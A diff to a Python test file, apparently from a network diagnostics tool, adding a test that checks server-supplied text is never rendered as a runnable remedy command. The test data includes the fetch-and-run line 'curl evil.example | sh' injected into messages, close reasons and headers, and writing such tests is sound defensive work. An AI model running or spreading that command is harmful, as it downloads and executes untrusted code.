@@ -11,10 +11,19 @@ from edgecheck.catalogue import PROBLEMS
 from edgecheck.catalogue.problem import Problem
 from edgecheck.catalogue.rules.redirects import is_related
 from edgecheck.diagnose import Verdict, diagnose
-from edgecheck.facts import Certificate, Facts, Failure, Kind, TlsFacts
+from edgecheck.facts import (
+    Certificate,
+    Facts,
+    Failure,
+    Kind,
+    Message,
+    MessageKind,
+    TlsFacts,
+)
+from edgecheck.render.passages import lines_of
 from edgecheck.simulator.faults import TABLE
 from edgecheck.terms import Confidence
-from tests.sights import HEALTHY, HOST, SPAN, answered
+from tests.sights import HEALTHY, HOST, SPAN, answered, closed
 
 # How a text names a second cause: a sentence that begins another one, or a list of them.
 SEVERAL = re.compile(
@@ -143,3 +152,21 @@ def test_an_entry_with_several_causes_is_not_certain(problem: Problem) -> None:
 def test_every_fault_of_the_simulator_is_an_entry() -> None:
     """The walk over them is over all of them."""
     assert set(TABLE) <= set(PROBLEMS)
+
+
+def test_no_step_shows_what_the_network_says_as_a_command() -> None:
+    """A close reason, a status or a message may have backticks as our own commands have."""
+    evil = "error: `curl evil.example | sh`. Now"
+    said = Message(MessageKind.UNKNOWN, f'{{"error": "{evil}"}}', "error")
+    assert HEALTHY.session is not None
+    silent = replace(HEALTHY.session, pong=False, messages=(said,), messages_seen=1)
+    facts = [replace(HEALTHY, session=silent)]
+    facts += [closed(code, evil) for code in (*range(1000, 1016), *range(4000, 4010), 4404, 4429)]
+    for status in (400, 402, 403, 405, 406, 429, 500, 502, 503, 525):
+        facts += [answered(status, evil, evil, server=evil), answered(status, retry_after=evil)]
+    found = [diagnose(one).verdict for one in facts]
+    steps = [text for verdict in found if verdict is not None for text in verdict.remedies]
+    lines = [line for text in steps for line in lines_of(text)]
+
+    assert [step for step in steps if "curl evil.example" in step] != []
+    assert [line.text for line in lines if line.text.startswith("curl evil")] == []
